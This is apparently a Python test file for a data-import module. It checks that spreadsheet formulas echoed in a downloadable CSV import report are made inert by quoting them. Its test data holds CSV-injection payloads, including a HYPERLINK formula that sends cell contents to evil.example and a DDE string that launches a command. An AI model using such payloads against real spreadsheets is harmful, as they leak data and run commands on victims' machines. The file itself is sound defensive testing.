"""Imports that survive hostile and huge files: zip bombs, XML entity attacks, too many rows, formulas
quoted back in the report, deeply nested JSON. Every hostile file is made here, small on disk."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime

import pytest

from analytics import importing
from analytics.importing import Rejected

SECRET = b"test secret"
NOW = datetime(2026, 11, 27, 12, 0, tzinfo=UTC)


def report_rows(rejected: list[Rejected]) -> list[dict[str, str]]:
    """The import report as the user downloads it, read back as a spreadsheet reads a CSV."""
    data = importing.report_csv(importing.report_frame(rejected, lambda r: r.reason))
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))


# --------------------------------------------------------------------------------------------------
# The import report does not run formulas
# --------------------------------------------------------------------------------------------------


def test_formulas_quoted_back_in_the_import_report_are_inert():
    """A file's bad cells come back in the report's value column; Excel must show them, not run them."""
    lines = [
        "反馈内容,创建时间,满意度,优先级,=cmd",
        'slow,=HYPERLINK("http://evil.example/?"&A1),4,P1,x',
        "slow 2,2026-05-03,+1+cmd|' /C calc'!A0,P1,x",
        "slow 3,2026-05-03,4,-2+3,x",
        "slow 4,@SUM(1+1),4,P1,x",
    ]
    table = importing.read_table("\n".join(lines).encode(), "tickets.csv")
    mapping = {**importing.guess_mapping(table.columns), "segment": "=cmd"}
    prepared = importing.prepare(table, mapping, secret=SECRET, now=NOW)
    rows = report_rows(prepared.rejected)
    values = [r["value"] for r in rows]
    assert len(values) == 4
    assert all(v.startswith("'") for v in values), values
    assert values[0].startswith("'=HYPERLINK") and values[2] == "'-2+3"


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_every_formula_start_is_neutralised_in_report_cells_and_headers(start):
    rejected = [Rejected(2, "bad_rating", column=f"{start}col", value=f"{start}1+1")]
    data = importing.report_csv(importing.report_frame(rejected, lambda r: f"{start}reason"))
    [row] = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))[1:]
    assert row == ["2", f"'{start}col", f"'{start}reason", f"'{start}1+1"]
